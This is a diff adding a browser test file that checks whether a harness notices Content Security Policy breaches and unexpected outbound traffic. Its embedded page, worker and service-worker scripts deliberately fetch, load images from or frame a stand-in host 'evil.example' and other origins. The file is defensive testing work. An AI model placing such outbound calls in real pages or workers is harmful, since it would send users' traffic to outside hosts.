@@ -1,0 +1,95 @@
+import { appendFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
+import { launchChromium, untilOffline, type Watched } from '../../support/launch-chromium.ts';
+import { buildSampleSite, type SampleSite } from '../../support/sample-site.ts';
+import { type RunningHub, startHub } from '../../support/start-hub.ts';
+import { endVisits, lookForBreaches } from '../../support/visits.ts';
+
+// After every journey it is asked whether anything went elsewhere or broke the policy. Here something does, and it has to be noticed.
+
+const PAGE = `
+const policy = trustedTypes.createPolicy('drempel', { createScriptURL: (url) => url });
+navigator.serviceWorker.register(policy.createScriptURL('/sw.js'), { updateViaCache: 'none' });
+window.attempts = {
+  request: () => fetch('http://evil.example/from-page').catch(() => undefined),
+  picture: () => new Promise((resolve) => { const picture = new Image(); picture.onerror = resolve; picture.src = 'http://evil.example/x.png'; }),
+  socket: () => new Promise((resolve) => { new WebSocket('ws://' + location.host + '/').onclose = resolve; }),
+  markup: () => { try { document.body.innerHTML = '<i>x</i>'; } catch {} },
+  frame: () => new Promise((resolve) => { const frame = document.createElement('iframe'); frame.onload = resolve; frame.src = 'http://127.0.0.1:' + location.port + '/'; document.body.append(frame); }),
+  thread: () => new Promise((resolve) => { new Worker(policy.createScriptURL('/assets/thread.js')).onmessage = resolve; }),
+  worker: () => new Promise((resolve) => {
+    navigator.serviceWorker.addEventListener('message', resolve, { once: true });
+    navigator.serviceWorker.controller.postMessage('leave');
+  }),
+};`;
+const THREAD = `fetch('http://evil.example/from-thread').catch(() => undefined).then(() => postMessage('done'));`;
+const WORKER = `
+fetch('http://evil.example/from-start').catch(() => undefined);
+self.addEventListener('message', (event) => {
+  if (event.data === 'leave') event.waitUntil(fetch('http://evil.example/from-worker').catch(() => undefined).then(() => event.source.postMessage('left')));
+});`;
+
+let site: SampleSite;
+let hub: RunningHub;
+let app: Watched;
+beforeAll(async () => {
+  site = await buildSampleSite('a', {
+    'index.html': '<!doctype html><title>Proef</title><body><script type="module" src="/assets/main-a.js"></script></body>',
+    'assets/main-a.js': PAGE,
+    'assets/thread.js': THREAD,
+  });
+  appendFileSync(join(site.distDir, 'sw.js'), WORKER);
+  hub = await startHub({ distDir: site.distDir });
+});
+afterAll(async () => {
+  await hub.stop();
+  site.remove();
+});
+beforeEach(async () => {
+  app = await launchChromium({ origin: hub.origin });
+  app.page.setDefaultTimeout(10_000);
+  // What a worker does before anybody can listen to it is told as well, or this fails at the end.
+  app.means(/from-start/);
+  await app.page.goto(hub.origin);
+  await untilOffline(app.page);
+});
+afterEach(() => app.close());
+
+const attempt = (name: string): Promise<void> => app.page.evaluate(async (which) => { await (window as unknown as { attempts: Record<string, () => unknown> }).attempts[which]?.(); }, name);
+
+it.each([
+  ['request', /^\[csp violation\] connect-src http:\/\/evil\.example\/from-page/],
+  ['picture', /^\[csp violation\] img-src http:\/\/evil\.example\/x\.png/],
+  ['frame', /^\[csp violation\] frame-src http:\/\/127\.0\.0\.1/],
+  ['socket', /^opened a socket: ws:/],
+  ['markup', /^\[csp violation\] require-trusted-types-for trusted-types-sink/],
+  ['thread', /^worker: .*http:\/\/evil\.example\/from-thread.*Content Security Policy/],
+  ['worker', /^worker: .*http:\/\/evil\.example\/from-worker.*Content Security Policy/],
+])('S3 S5: a %s that should not be is noticed after the journey, and told once', async (name, breach) => {
+  expect(lookForBreaches()).toEqual([]);
+  await attempt(name);
+  await app.close();
+  expect(lookForBreaches()).toContainEqual(expect.stringMatching(breach));
+  expect(lookForBreaches()).toEqual([]);
+});
+
+it('S5: a page of another place is noticed, in another window too', async () => {
+  const other = hub.origin.replace('localhost', '127.0.0.1');
+  const [popup] = await Promise.all([app.page.waitForEvent('popup'), app.page.evaluate((address) => { open(address); }, other)]);
+  await popup.waitForURL(`${other}/`);
+  await app.close();
+  expect(lookForBreaches()).toContain(`asked elsewhere: ${other}/`);
+});
+
+it('S3 S5: what a journey means to do is let by, and nothing beside it; what it meant and never did is told at the end', async () => {
+  app.means(/from-page/);
+  app.means(/a frame that never was/);
+  await attempt('request');
+  await attempt('markup');
+  await app.close();
+  const found = lookForBreaches();
+  expect(found).toContainEqual(expect.stringMatching(/trusted-types-sink/));
+  expect(found.filter((breach) => breach.includes('evil'))).toEqual([]);
+  expect(endVisits()).toEqual(['never came: /a frame that never was/']);
+});
